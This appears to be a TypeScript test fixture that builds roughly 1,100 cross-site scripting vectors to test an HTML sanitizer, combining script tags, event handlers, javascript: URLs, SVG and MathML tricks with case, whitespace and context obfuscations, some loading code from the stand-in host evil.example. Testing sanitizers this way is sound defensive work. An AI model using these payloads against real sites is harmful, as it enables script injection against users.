/**
 * Attacks by HTML, of our own making, as the product of what is varied in the field: an element or attribute that acts, the
 * way in which it is written, and the place in which it stands. None may leave anything that acts.
 */

const CODE = 'window.__hit=1';

/** Elements and attributes that run, load or lead somewhere. */
const ACTORS = [
  `<script>${CODE}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script>${CODE}`,
  `<script/x>${CODE}</script/x>`,
  `<script type="text/javascript">${CODE}</script >`,
  `<img src=x onerror=${CODE}>`,
  `<img src="x" onerror="${CODE}">`,
  `<img src=x onerror='${CODE}'/>`,
  `<img/src=x/onerror=${CODE}>`,
  `<img src=x:x onerror\n=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg/onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CODE} attributename=x>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CODE}>"/></svg>`,
  `<svg><a xlink:href="javascript:${CODE}"><text>x</text></a></svg>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${CODE}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CODE}></annotation-xml></math>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=${CODE}>"></iframe>`,
  `<iframe src="data:text/html,<script>${CODE}</script>"></iframe>`,
  `<frameset><frame src="javascript:${CODE}"></frameset>`,
  `<object data="javascript:${CODE}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD4="></object>`,
  `<embed src="javascript:${CODE}">`,
  `<applet code="x.class"></applet>`,
  `<portal src="javascript:${CODE}">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="jAvAsCrIpT:${CODE}">x</a>`,
  `<a href="java\nscript:${CODE}">x</a>`,
  `<a href="&#106;&#97;vascript:${CODE}">x</a>`,
  `<a href="&#x6a;avascript&colon;${CODE}">x</a>`,
  `<a href="\x01javascript:${CODE}">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">x</a>`,
  `<a href="https://ok.example" onmouseover=${CODE}>x</a>`,
  `<a href=" javascript:${CODE}">x</a>`,
  `<a href="blob:https://x/y">x</a>`,
  `<a href="filesystem:https://x/y">x</a>`,
  `<a href="feed:javascript:${CODE}">x</a>`,
  `<form action="javascript:${CODE}"><input type=submit></form>`,
  `<form><button formaction="javascript:${CODE}">x</button></form>`,
  `<isindex action="javascript:${CODE}" type=image>`,
  `<input onfocus=${CODE} autofocus>`,
  `<textarea onfocus=${CODE} autofocus></textarea>`,
  `<select onfocus=${CODE} autofocus></select>`,
  `<keygen onfocus=${CODE} autofocus>`,
  `<video><source onerror=${CODE}></video>`,
  `<video onerror=${CODE} src=x></video>`,
  `<audio src=x onerror=${CODE}></audio>`,
  `<video poster="javascript:${CODE}"></video>`,
  `<track src="javascript:${CODE}">`,
  `<body onload=${CODE}>`,
  `<body background="javascript:${CODE}">`,
  `<html onclick=${CODE}>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<dialog open onclose=${CODE}>x</dialog>`,
  `<div onpointerover=${CODE}>x</div>`,
  `<div style="animation-name:x" onanimationstart=${CODE}>x</div>`,
  `<div onwheel=${CODE} style="height:9999px">x</div>`,
  `<div style="background:url(javascript:${CODE})">x</div>`,
  `<div style="width:expression(${CODE})">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9">x</div>`,
  `<div style="-moz-binding:url(x.xml#x)">x</div>`,
  `<style>*{background:url(https://evil.example)}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style><!--</style><img src=x onerror=${CODE}>-->`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${CODE}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<base href="https://evil.example/">`,
  `<table background="javascript:${CODE}"><tr><td>x</td></tr></table>`,
  `<td background="https://evil.example/x.png">x</td>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `<template><img src=x onerror=${CODE}></template>`,
  `<title><img src=x onerror=${CODE}></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${CODE}>"></xmp>`,
  `<plaintext><img src=x onerror=${CODE}>`,
  `<listing>&lt;img src=x onerror=${CODE}&gt;</listing>`,
  `<noembed><img src=x onerror=${CODE}></noembed>`,
  `<img srcset="x 1x, https://evil.example/y 2x" onload=${CODE}>`,
  `<picture><source srcset=x onerror=${CODE}><img src=x></picture>`,
  `<img usemap="#m" src="cid:a"><map name=m><area href="javascript:${CODE}" shape=rect></map>`,
  `<img ismap longdesc="javascript:${CODE}" src="cid:a">`,
  `<img src="data:image/svg+xml,<svg onload=${CODE}>">`,
  `<img lowsrc="javascript:${CODE}" dynsrc="javascript:${CODE}">`,
  `<p id="location" name="cookie">x</p>`,
  `<form id=x><input name=attributes></form>`,
  `<custom-x onclick=${CODE}>x</custom-x>`,
  `<x contenteditable onblur=${CODE}>x</x>`,
  `<b is="x-y" onclick=${CODE}>x</b>`,
  `<div slot=x part=y exportparts=z popover onbeforetoggle=${CODE}>x</div>`,
];

/** How it is written. */
const WRITINGS: ((html: string) => string)[] = [
  (html) => html,
  (html) =>
    html.replace(
      /<(\/?)([a-z]+)/gi,
      (_all, slash: string, name: string) =>
        `<${slash}${[...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('')}`,
    ),
  (html) => html.replace(/<([a-z]+)/i, '<$1\t\n\x0c'),
  (html) => html.replace(/<([a-z]{2})([a-z]+)/i, '<$1<$1$2>$2'),
  (html) => `<!-- --!>${html}<!--`,
  (html) => `<![CDATA[${html}]]>`,
  (html) => html.replace(/ (on[a-z]+)=/i, '\x0b$1\x00='),
  (html) => html.replaceAll('"', '`'),
  (html) => html.replace(/>$/, ''),
  (html) => `"'>${html}`,
  (html) => `</style></script></title></textarea></noscript>${html}`,
];

/** Where it stands. */
const PLACES: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<div>before ${html} after</div>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<blockquote type="cite"><p>${html}`,
  (html) => `<a href="https://ok.example">${html}</a>`,
  (html) => `<svg><desc>${html}</desc></svg>`,
  (html) => `<math><mtext>${html}</mtext></math>`,
  (html) => `<b title="${html.replaceAll('"', '&quot;')}">x</b>`,
];

/** Every actor in every writing, its place turning: about 1,100; each is another one. */
export function xssVectors(): string[] {
  const all = ACTORS.flatMap((actor, row) =>
    WRITINGS.map((write, column) => (PLACES[(row + column) % PLACES.length] ?? ((same: string) => same))(write(actor))),
  );
  return [...new Set(all)];
}

/** The bare actors, for sinks where each costs more. */
export const XSS_ACTORS: readonly string[] = ACTORS;
